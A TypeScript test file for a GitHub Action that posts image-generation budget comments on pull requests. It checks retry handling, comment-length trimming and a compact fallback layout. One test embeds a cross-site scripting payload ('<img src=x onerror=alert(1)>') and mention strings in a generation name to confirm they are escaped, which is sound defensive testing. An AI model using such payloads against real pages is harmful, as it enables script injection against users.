    expect(result.code).toBe(0)
    const attempts = github.requests.filter((r) => r.method === method && (typeof path === 'string' ? r.path === path : path.test(r.path)))
    expect(attempts.map((r) => r.status)).toEqual([502, method === 'POST' ? 201 : 200])
    expect(gateComments(github)).toHaveLength(1)
    expect(gateComments(github)[0]!.split('\n')[0]).toBe(marker(1000))
    expect(result.warnings).toEqual([])
    expect(result.outputs['comment-url']).toMatch(/#issuecomment-\d+$/)
  })
})

describe('what the comment says', () => {
  /** `count` generations sharing 3 request bodies, so Layer gets 3 requests, not thousands. */
  function bigManifest(count: number): string {
    const lines = [`version: 1`, `workspace_id: ${SIM_WORKSPACE_ID}`, 'defaults:', `  model_id: ${IMAGE}`, 'generations:']
    for (let i = 0; i < count; i++) {
      lines.push(`  - name: sprite-${String(i).padStart(4, '0')}-${'x'.repeat(20)}`, `    prompt: "sprite ${i % 3}"`, `    runs: ${(i % 7) + 1}`, `    group: set-${i % 11}`)
    }
    return `${lines.join('\n')}\n`
  }

  it('keeps a comment for 3,000 generations under 65,536 characters, with a "… N more generations" line; the summary has them all', async () => {
    const github = await startFake({ files: { [BASE_SHA]: {} } })
    sim.setBalance(SIM_WORKSPACE_ID, 1_000_000)
    const result = await runPr(github, { files: { [MANIFEST_PATH]: bigManifest(3000) } })
    expect(result.code).toBe(0)
    expect(result.outputs.entries).toBe('3000')
    expect(sim.requests).toBe(3)
    const posts = requestsTo(github, 'POST', COMMENTS_PATH)
    expect(posts).toHaveLength(1)
    const body = github.comments(PR)[0]!.body
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
    expect(body.length).toBeGreaterThan(COMMENT_LIMIT / 2) // trimmed to fit, not to nothing
    const more = /… ([\d,]+) more generations \(([\d,.]+) CU\)/.exec(body)
    expect(more).not.toBeNull()
    const shownRows = body.split('\n').filter((l) => /^\| sprite-/.test(l)).length
    expect(shownRows + Number(more![1]!.replace(/,/g, ''))).toBe(3000)
    expect(body).toMatch(/<details><summary>/)
    expectWellFormedTables(body)
    // The job summary keeps every row.
    expect(result.summary.split('\n').filter((l) => /^\| sprite-/.test(l))).toHaveLength(3000)
  }, 40_000)

  it('posts the compact layout when GitHub refuses the full one (422: body too long)', async () => {
    const github = await startFake({ files: { [BASE_SHA]: {} }, maxBodyLength: 12_000 })
    const result = await runPr(github, { files: { [MANIFEST_PATH]: bigManifest(300) } })
    expect(result.code).toBe(0)
    const posts = requestsTo(github, 'POST', COMMENTS_PATH)
    expect(posts.map((r) => r.status)).toEqual([422, 201])
    const [full, compact] = posts.map((r) => (r.body as { body: string }).body)
    expect(full!.length).toBeGreaterThan(12_000)
    expect(compact!.length).toBeLessThanOrEqual(12_000)
    const body = github.comments(PR)[0]!.body
    expect(body).toBe(compact)
    expect(body.split('\n')[0]).toBe(marker(1000))
    expect(body).toContain('### ✅ Within budget')
    expect(body).toMatch(/… [\d,]+ more generations/)
    expect(body.split('\n').filter((l) => /^\| sprite-/.test(l)).length).toBeLessThanOrEqual(20)
    expect(result.warnings).toEqual([])
  }, 40_000)

  it('escapes a hostile generation name: the table holds, nobody is mentioned or linked, no HTML gets through', async () => {
    const hostile = 'a|b @octocat #12 <img src=x onerror=alert(1)>'
    const manifest = `${HEAD_MANIFEST}  - name: ${JSON.stringify(hostile)}\n    model_id: art\n    prompt: "hostile"\n    group: "@admins #1 <b>x</b> GH-7"\n`
    const github = await startFake()
    const result = await runPr(github, { files: { [MANIFEST_PATH]: manifest } })
    expect(result.code).toBe(0)
    const body = github.comments(PR)[0]!.body
    expectWellFormedTables(body)
    const line = body.split('\n').find((l) => l.includes('octocat'))!
    expect(line).toBeDefined()
    expect(line.split('|').length).toBe(row(body, 'knight')!.length + 2)
    // Nothing GitHub would turn into a tag, a mention or an issue link.
    const withoutOwnTags = body.replace(/<\/?(details|summary|sub)>|<!--[^>]*-->/g, '')
    expect(withoutOwnTags).not.toContain('<')
    expect(decoded(body).replace(/<!--[^>]*-->/g, '')).not.toMatch(/@\w|#\d|\bGH-\d/i)
    // …yet the name still reads as written.
    expect(decoded(line).replace(/\u200b/g, '')).toContain(hostile)
    expect(result.summary).not.toMatch(/<img/)
  })
})
